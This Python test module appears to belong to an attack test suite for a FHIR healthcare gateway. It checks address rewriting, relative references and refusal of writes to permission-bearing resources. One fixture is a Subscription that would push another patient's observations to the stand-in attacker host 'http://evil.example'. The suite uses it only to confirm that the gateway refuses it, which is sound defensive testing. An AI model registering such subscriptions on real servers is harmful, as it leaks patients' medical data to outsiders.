"""Sections S and V, and of N what is closed without a rule: addresses in answers, and resources that rule a store."""

import json
from typing import Any

from tests.attacks.table.rows import Row, ask, row
from tests.attacks.table.section_h import note
from tests.attacks.table.stores import answers, found
from tests.support.gateway import Reply, RunningGateway
from tests.support.hostile_upstream import HostileUpstream
from tests.support.world import world

_READ, _STAFF = ask("GET /Observation/a1"), ask("GET /Patient/A", "dr1")
_A1 = world()["Observation/a1"]
_CREATE = ask("POST /Observation", "pA-rw", note())


def said(id: str, text: str, *, line: str = "GET /Observation/a1", **more: Any) -> Row:
    """A note with a text, which leaves as it stands; '{store}' in it is the address of the store."""
    resource = _A1 | {"note": [{"text": text}]}
    return row(id, line, 200, store=answers(resource), sent=("GET *",), twin=_READ, **more)


def _kept(gateway: RunningGateway, reply: Reply) -> None:
    """The text of the note is still the store's address: clinical text is nobody's to change."""
    assert f"see {gateway.upstream.base}/Patient/A" in reply.json["note"][0]["text"]


def _round_trip(gateway: RunningGateway, reply: Reply) -> None:
    """Every address in the answer is one that the gateway takes."""
    public = f"{gateway.origin}/fhir/r4/"
    for link in reply.json.get("link", []):
        assert link["url"].startswith(public)
        assert "/fhir/fhir" not in link["url"]
    for entry in reply.json.get("entry", []):
        assert entry["fullUrl"] == f"{public}Observation/{entry['resource']['id']}"


def _relative(gateway: RunningGateway, reply: Reply) -> None:
    """What was stored refers by relative references."""
    stored = json.loads(gateway.upstream.requests[-1].body)
    assert stored["subject"] == {"reference": "Patient/A"}
    assert gateway.origin.encode() not in gateway.upstream.requests[-1].body


def _canonical(gateway: RunningGateway, reply: Reply) -> None:
    """Names of profiles and code systems are not addresses, wherever they lead."""
    assert reply.json["meta"]["profile"] == [f"{gateway.upstream.base}/StructureDefinition/x"]
    assert reply.json["code"]["coding"][0]["system"] == f"{gateway.upstream.base}/CodeSystem/x"


def rewritten(id: str, spelling: str) -> Row:
    """A reference to the store by one of its spellings: it leaves as an address of the gateway's, or as it is sealed."""

    def store(upstream: HostileUpstream) -> None:
        text = json.dumps(_A1 | {"performer": [{"reference": "PLACE"}]})
        base = spelling.replace("{host}", "127.0.0.1").replace("{port}", str(upstream.port))
        answers(text.replace("PLACE", f"{base}/Practitioner/dr1").encode())(upstream)

    return row(id, "GET /Observation/a1", 200, store=store, sent=("GET *",), twin=_READ, check=_ours)


def _ours(gateway: RunningGateway, reply: Reply) -> None:
    (performer,) = reply.json["performer"]
    assert performer["reference"] == f"{gateway.origin}/fhir/r4/Practitioner/dr1"


SUBSCRIPTION = {
    "resourceType": "Subscription", "status": "requested", "reason": "x", "criteria": "Observation?subject=Patient/B",
    "channel": {"type": "rest-hook", "endpoint": "http://evil.example", "header": ["Authorization: x"]},
}  # fmt: skip
_RULE_BOOK = ("SearchParameter", "CompartmentDefinition", "StructureDefinition", "OperationDefinition",
              "CapabilityStatement", "AuditEvent", "Endpoint", "Library", "PlanDefinition", "ActivityDefinition", "Measure",
              "Questionnaire", "ConceptMap", "ValueSet", "NamingSystem", "Group", "List", "CareTeam", "Consent",
              "PractitionerRole", "Practitioner", "Organization")  # fmt: skip


def closed(
    id: str, line: str, status: int | tuple[int, ...] = 403, reason: str | None = "no-permit", **more: Any
) -> Row:
    """A write or read that no rule opens."""
    return row(id, line, status, reason, **{"who": "dr1", "sees": True, "twin": _STAFF} | more)


ROWS = (
    row("S-308-the-capabilities-in-another-mode", "GET /metadata?mode=terminology", 200, sent=None,
        hides=("127.0.0.1", "upstream-product"), twin=_READ),
    row("S-308b-an-operation-for-capabilities", "GET /Patient/$metadata", 403, "interaction-closed", twin=_READ),
    row("S-308c-smart-configuration", "GET /.well-known/smart-configuration", 200, "-", who=None, twin=_READ,
        check=lambda gateway, reply: _own_server(gateway, reply)),
    row("S-308d-a-write-of-the-capabilities", "PUT /metadata", 405, "method-not-allowed", who="pA-rw",
        body={"resourceType": "CapabilityStatement"}, twin=_READ),
    said("S-309-an-address-in-clinical-text", "see {store}/Patient/A", check=_kept),
    rewritten("S-310-the-plain-address", "http://{host}:{port}/fhir"),
    rewritten("S-310b-upper-case-scheme", "HTTP://{host}:{port}/fhir"),
    row("S-310c-escaped-slashes", "GET /Observation/a1", 200, sent=("GET *",), twin=_READ, check=_ours,
        store=lambda upstream: answers(json.dumps(_A1 | {"performer": [{"reference": f"{upstream.base}/Practitioner/dr1"}]})
                                       .replace("/", "\\/").encode())(upstream)),
    row("S-310d-escaped-letters", "GET /Observation/a1", 200, sent=("GET *",), twin=_READ, check=_ours,
        store=lambda upstream: answers(json.dumps(_A1 | {"performer": [{"reference": f"{upstream.base}/Practitioner/dr1"}]})
                                       .replace("http", "\\u0068ttp").encode())(upstream)),
    said("S-310e-an-address-that-only-looks-alike", "see h{store}/Patient/A x{store}"),
    row("S-312-links-that-come-back", "GET /Observation?code=x", 200, sent=("GET *",), twin=_READ, check=_round_trip,
        store=found(_A1, more={"link": [{"relation": "next", "url": "{store}/Observation?_page=2"}]})),
    row("S-312b-links-with-the-public-address", "GET /Observation?code=x", 200, sent=("GET *",), twin=_READ,
        store=found(_A1), check=_round_trip),
    row("S-313-an-address-in-an-attachment", "GET /DocumentReference/a1", 200, sent=("GET *",), hides=("127.0.0.1",),
        store=answers({"resourceType": "DocumentReference", "id": "a1", "status": "current", "subject": {
            "reference": "{store}/Patient/A"}, "content": [{"attachment": {"url": "{store}/Binary/a"}}]}), twin=_READ),
    row("S-313b-addresses-in-extensions", "GET /Observation/a1", 200, sent=("GET *",), hides=("127.0.0.1",), twin=_READ,
        store=answers(_A1 | {"extension": [{"url": "urn:x", "valueUrl": "{store}/Patient/A"}, {
            "url": "urn:x", "valueReference": {"reference": "{store}/Patient/A"}}]})),
    row("S-314-own-addresses-in-a-body", "POST /Observation", 201, who="pA-rw", sent=("POST Observation",), check=_relative,
        body=note(subject={"reference": "{origin}/fhir/r4/Patient/A"}), twin=_CREATE),
    row("S-314b-own-addresses-of-a-stranger", "POST /Observation", 403, "scope-insufficient", who="pA-rw",
        body=note(subject={"reference": "{origin}/fhir/r4/Patient/B"}), twin=_CREATE),
    row("S-314c-a-stranger-by-the-address-of-the-store", "POST /Observation", 403, "scope-insufficient", who="pA-rw",
        body=note(subject={"reference": "{store}/Patient/B"}), twin=_CREATE),
    row("S-316-names-of-profiles-and-code-systems", "GET /Observation/a1", 200, sent=("GET *",), twin=_READ,
        check=_canonical, store=answers(_A1 | {"meta": {"profile": ["{store}/StructureDefinition/x"]}, "code": {
            "coding": [{"system": "{store}/CodeSystem/x", "code": "x"}]}})),
    closed("V-340-a-subscription-to-a-stranger", "POST /Subscription", reason="interaction-closed", body=SUBSCRIPTION),
    closed("V-340b-a-subscription-by-a-patient", "POST /Subscription", body=SUBSCRIPTION, who="pA-rw", sees=False,
           reason=None, twin=_CREATE),
    closed("V-341-anothers-subscription-is-changed", "PUT /Subscription/x", reason="interaction-closed",
           body=SUBSCRIPTION | {"id": "x"}),
    closed("V-341b-subscriptions-are-searched", "GET /Subscription"),
    closed("V-341c-a-subscription-is-read", "GET /Subscription/x"),
    closed("V-341d-a-subscription-is-deleted", "DELETE /Subscription/x", reason="interaction-closed"),
    closed("V-342-the-list-that-opens-is-changed", "PUT /Group/g", who="pA-rw", sees=False, twin=_CREATE, body={
        "resourceType": "Group", "id": "g", "type": "person", "actual": True, "member": [{"entity": {
            "reference": "Patient/B"}}]}),
    closed("V-342b-the-team-that-opens-is-changed", "PUT /CareTeam/t", body={"resourceType": "CareTeam", "id": "t"}),
    closed("V-344-the-own-role-is-changed", "PUT /PractitionerRole/r", body={"resourceType": "PractitionerRole", "id": "r"}),
    closed("V-344b-the-own-person-is-changed", "PUT /Practitioner/dr1", body={"resourceType": "Practitioner", "id": "dr1"}),
    *(closed(f"V-345-{type_.lower()}", f"POST /{type_}", body={"resourceType": type_}) for type_ in _RULE_BOOK),
    closed("V-345b-a-plan-is-applied", "POST /PlanDefinition/p/$apply", reason="interaction-closed",
           body={"resourceType": "Parameters"}),
    closed("V-346-who-looked-at-the-own-record", "GET /AuditEvent?patient=A", who="pA-r", sees=False, twin=_READ),
    closed("V-346b-one-record-of-the-trail", "GET /AuditEvent/e", who="pA-r", sees=False, twin=_READ),
    closed("V-346c-the-trail-in-the-compartment", "GET /Patient/A/AuditEvent", (403, 404), None, who="pA-r", sees=False,
           twin=_READ),
    closed("V-348-a-second-record-of-a-person", "POST /Patient", who="nurse", sees=False, body={"resourceType": "Patient"},
           reason="scope-insufficient", twin=ask("GET /Practitioner/dr1", "nurse")),
    closed("V-348b-matching-a-person", "POST /Patient/$match", reason="interaction-closed",
           body={"resourceType": "Parameters"}),
    closed("N-226-a-strangers-binary", "GET /Binary/b", who="pA-r", sees=False, twin=_READ),
    closed("N-226b-a-search-of-binaries", "GET /Binary", (403, 404), None, who="pA-r", sees=False, twin=_READ),
    closed("N-233-a-binary-is-replaced", "PUT /Binary/b", (403, 415), None, who="pA-rw", sees=False, body=b"raw",
           headers=(("Content-Type", "text/plain"),), twin=_CREATE),
    closed("N-233b-a-binary-for-a-stranger", "POST /Binary", (403, 415), None, who="pA-rw", sees=False, body=b"raw",
           headers=(("Content-Type", "text/plain"), ("X-Security-Context", "Patient/B")), twin=_CREATE),
    closed("N-234-a-document-of-a-stranger", "GET /Bundle/doc-b", who="pA-r", sees=False, twin=_READ),
    closed("N-234b-documents-are-searched", "GET /Bundle", who="pA-r", sees=False, twin=_READ),
)  # fmt: skip


def _own_server(gateway: RunningGateway, reply: Reply) -> None:
    assert reply.json["token_endpoint"] == f"{gateway.origin}/token"
    assert "127.0.0.1" not in reply.body.decode()
